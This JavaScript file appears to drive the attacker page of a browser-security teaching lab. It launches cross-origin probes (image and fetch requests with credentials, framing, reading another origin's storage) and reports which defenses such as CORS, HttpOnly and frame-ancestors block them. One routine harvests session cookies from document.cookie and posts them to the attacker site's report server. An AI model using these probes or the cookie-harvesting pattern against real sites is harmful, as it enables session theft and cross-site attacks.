// The attacker site's script: fires the attacks a form or a link cannot, and writes what
// this page could and could not learn into #outcome. It runs on the attacker's origin, so
// everything it tries is what any other site on the web could try.
"use strict";

(function () {
  const stage = document.querySelector(".stage");
  const launch = document.getElementById("launch");
  const outcome = document.getElementById("outcome");
  if (!stage || !launch || !outcome) {
    return;
  }
  const target = stage.dataset.target;
  const labs = document.body.dataset.labs;

  const trace = document.body.dataset.trace;

  // Keeps the report on this site's server too, for the "read back" list (same origin).
  // `read` is what a page read from document.cookie, for the server to judge.
  function keep(lines, beacon, read) {
    if (!trace) {
      return;
    }
    const url = (stage.dataset.reports || "/reports") + "?trace=" + encodeURIComponent(trace);
    const report = { attack: stage.dataset.attack, lab: stage.dataset.lab, lines: lines };
    if (read !== undefined) {
      report.read = read;
    }
    const body = JSON.stringify(report);
    if (beacon) {
      navigator.sendBeacon(url, new Blob([body], { type: "application/json" }));
    } else {
      fetch(url, { method: "POST", headers: { "Content-Type": "application/json" }, body: body });
    }
  }

  function report(lines, read) {
    outcome.textContent = lines.join("\n");
    if (lines.length > 1 || lines[0] !== "Launched…") {
      keep(lines, false, read);
    }
  }

  const attacks = {
    "img-get": function () {
      const img = new Image();
      img.alt = "";
      img.onload = function () {
        report(["The browser handed this page an image: it should not have."]);
      };
      img.onerror = function () {
        report([
          "Request sent: GET " + target,
          "This page learned only: error (not an image, and Cross-Origin-Resource-Policy refuses it).",
          "Did your cookie go along? Look at the lab's inspector.",
        ]);
      };
      img.src = target;
      document.getElementById("probe").replaceChildren(img);
    },

    "fetch-lab": async function () {
      try {
        const response = await fetch(target, { credentials: "include" });
        const text = await response.text();
        report(["Read " + text.length + " characters of the lab page: CORS should have stopped this."]);
      } catch (error) {
        report([
          "Request sent: GET " + target + " (credentials: include)",
          "Reading the answer failed: " + error.name + ": " + error.message,
          "The browser hid the response: the lab sent no Access-Control-Allow-Origin.",
        ]);
      }
    },

    "fetch-api": async function () {
      const lines = [];
      try {
        const plain = await fetch(target, { method: "POST", credentials: "include" });
        lines.push("Plain POST: the answer was readable (status " + plain.status + "): CORS should have stopped this.");
      } catch (error) {
        lines.push("Plain POST " + target + ": sent, but the answer is hidden (" + error.message + ").");
      }
      try {
        await fetch(target, {
          method: "POST",
          credentials: "include",
          headers: { Authorization: "Bearer guessed" },
        });
        lines.push("POST with Authorization: the lab allowed it: it should not have.");
      } catch (error) {
        lines.push("POST with Authorization: never sent; the preflight OPTIONS got no permission (" + error.message + ").");
      }
      report(lines);
    },

    "iframe": function () {
      const frame = document.createElement("iframe");
      frame.title = "the lab, framed";
      frame.src = target;
      frame.onload = function () {
        let readable = "no";
        try {
          readable = frame.contentDocument && frame.contentDocument.body ? "yes" : "no";
        } catch (error) {
          readable = "no (" + error.name + ")";
        }
        report([
          "The frame asked for " + target + ".",
          "Could this page read inside it? " + readable + ".",
          "The lab's frame-ancestors 'none' and X-Frame-Options: DENY keep it blank.",
        ]);
      };
      document.getElementById("frame-slot").replaceChildren(frame);
    },

    "read-token": function () {
      const lines = [];
      const stored = window.localStorage.getItem("auth-labs.jwt-header.token");
      lines.push("localStorage here (" + window.location.origin + "): " + (stored === null ? "empty" : stored) + ".");
      const opened = window.open(labs + "/labs/jwt-header", "_blank");
      if (!opened) {
        lines.push("Opening the lab in a window: blocked or severed (no handle came back).");
      } else {
        try {
          lines.push("Reading the opened lab's storage: " + opened.localStorage.getItem("auth-labs.jwt-header.token"));
        } catch (error) {
          lines.push("Reading the opened lab: refused (" + error.name + "): another origin.");
        }
      }
      report(lines);
    },

    "steal-cookie": function () {
      const read = document.cookie;
      const session = read.split(";").map(function (pair) {
        return pair.trim();
      }).filter(function (pair) {
        return pair.indexOf("sid=") === 0 || pair.indexOf("__Host-sid=") === 0;
      });
      report([
        "document.cookie here (" + window.location.origin + window.location.pathname + "): " + (read === "" ? "empty" : read),
        session.length > 0
          ? "Found the session cookie, and sent it to this site: " + session.join("; ")
          : "No session cookie in document.cookie: script cannot read it (HttpOnly), or there is none.",
      ], read);
    },
  };

  // A form post or a link takes the browser to the lab: this page cannot see the answer.
  const forged = document.getElementById("forged");
  if (forged) {
    forged.addEventListener("submit", function () {
      keep(["Sent: POST " + target, "The answer went to your browser's new page, on the lab; this site cannot read it."], true);
    });
  } else if (launch.tagName === "A") {
    launch.addEventListener("click", function () {
      keep(["Sent you to: GET " + target, "The lab's page opened in your browser; this site cannot read it."], true);
    });
  }

  const fire = attacks[stage.dataset.attack];
  if (fire) {
    launch.addEventListener("click", function () {
      report(["Launched…"]);
      fire();
    });
  }
})();
